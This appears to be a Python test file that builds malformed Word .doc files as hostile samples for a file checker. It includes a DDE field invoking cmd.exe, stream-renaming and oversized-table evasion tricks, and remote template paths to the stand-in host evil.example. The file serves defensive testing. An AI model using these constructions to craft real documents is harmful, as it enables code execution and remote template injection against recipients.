"""Old Word .doc files with a second stream of a name, a far template, or tables without end."""

import struct

from filestore.errors import (
    CannotBeChecked,
    FetchesFromOutside,
    FieldFetches,
    FileEncrypted,
)
from tests.filestore.hostile.docs import family
from tests.filestore.making import compound_of, doc_of_pieces

add = family.add
DDE = ("Order \x13 DDE", "AUTO c:\\\\cmd.exe \x15")  # seen by whoever follows the pieces alone


# Of one narrow letter, from the head of the Word stream.
TABLE = (b"\x02" + struct.pack("<IIIHIH", 16, 0, 1, 0, 0x4000_0000, 0)).ljust(4096, b"\x00")


def word(flags=0):
    return struct.pack("<H8xH", 0xA5EC, flags).ljust(4096, b"\x00")


def renamed(content, old, new):
    """Another name, as long or up to a null longer, for the stream that was called so."""
    content = bytearray(content)
    at = content.index(old.encode("utf-16-le"))
    content[at : at + 64] = new.encode("utf-16-le").ljust(64, b"\x00")
    struct.pack_into("<H", content, at + 64, 2 * len(new) + 2)
    return bytes(content)


def behind_harmless(old, new, harmless):
    """The stream `old` is called `new`, and a harmless one of its usual name comes before it."""
    content = doc_of_pieces(*DDE, others={"Something": harmless})
    return renamed(renamed(content, old, new), "Something", old)


def template(path, *, wide=True):
    """SttbfAssoc, of which the second string is the template."""
    strings = ["", path, *[""] * 16]
    form, encoding = ("<H", "utf-16-le") if wide else ("<B", "cp1252")
    head = b"\xff\xff" if wide else b""
    coded = [struct.pack(form, len(one)) + one.encode(encoding) for one in strings]
    return head + struct.pack("<HH", len(strings), 0) + b"".join(coded)


def with_table_again(times):
    """Many entries of the directory for one table of four megabytes."""
    more = {f"{number:06}": bytes(64) for number in range(times)}
    content = bytearray(doc_of_pieces("Order", strings=bytes(4_000_000), others=more))
    root = 512 * (struct.unpack_from("<I", content, 48)[0] + 1)
    table = content[root + 128 * (times + 2) :][:128]
    content[root + 128 : root + 128 * (times + 1)] = table * times
    return bytes(content)


def doc_with_long_table():
    """The table of mini sectors is as long as the file, and its numbers are no small ones."""
    content = bytearray(doc_of_pieces(*DDE, small_word=True, pictures=b"\x01" * 6_500_000))
    mini_table = struct.unpack_from("<I", content, 60)[0]
    pictures = content.index(b"\x01" * 512) // 512 - 1
    start = 512 * (mini_table + 1)
    content[512 * (pictures + 1) : 512 * (pictures + 2)] = content[start : start + 512]
    struct.pack_into("<I", content, 60, pictures)
    return bytes(content)


for name in ("WordDocument", "WORDDOCUMENT", "WordDocument\x00", "WordDocument\x00x"):
    content = behind_harmless("WordDocument", name, word())
    add(f"two Word streams, the second {name!r}", content, CannotBeChecked)
for name in ("1TABLE", "1table", "1Table\x00"):
    content = behind_harmless("1Table", name, TABLE)
    add(f"two tables, the second {name!r}", content, CannotBeChecked)
    content = renamed(doc_of_pieces(*DDE), "1Table", name)
    add(f"DDE by a table called {name!r}", content, FieldFetches)
two_tables = doc_of_pieces("Order", others={"Something": TABLE})
add("two tables", renamed(two_tables, "Something", "1Table"), CannotBeChecked)
two_tables = doc_of_pieces("Order", others={"Something": TABLE, "Another": TABLE})
two_tables = renamed(renamed(two_tables, "Something", "0Table"), "Another", "0Table")
add("two tables of which none is used", two_tables, CannotBeChecked)
content = renamed(doc_of_pieces(*DDE), "WordDocument", "WORDDOCUMENT")
add("Word stream in capitals", content, FieldFetches)
for flags in (0x0100, 0x8100):
    content = compound_of({"WordDocument": word(), "Something": word(flags)})
    content = renamed(content, "Something", "WordDocument")
    add(f"two Word streams, the second locked ({flags:x})", content, FileEncrypted)
add("a table two thousand times", lambda: with_table_again(2_000), CannotBeChecked)
add("a table of mini sectors without end", doc_with_long_table, FieldFetches)
inner = "\x13 " + "a " * 90_000 + "\x13\x15" * 8_000 + "\x15"
add("DDE behind fields in a long one", lambda: doc_of_pieces(inner + DDE[0], DDE[1]), FieldFetches)
FAR = (
    *("http://evil.example/x.dotm", "https://evil.example/x.dot", "\\\\evil.example\\share\\x.dot"),
    *("//evil.example/x.dot", "file://evil.example/x.dot", "\\x.dot", " http://evil.example/x"),
    *("http%3a//evil.example/x.dot", "\\\\?\\UNC\\evil.example\\share\\x.dot"),
)
for path in FAR:
    for wide in (True, False):
        content = doc_of_pieces("Order", strings=template(path, wide=wide))
        how = "wide" if wide else "narrow"
        add(f"template {path!r} in {how} letters", content, FetchesFromOutside)
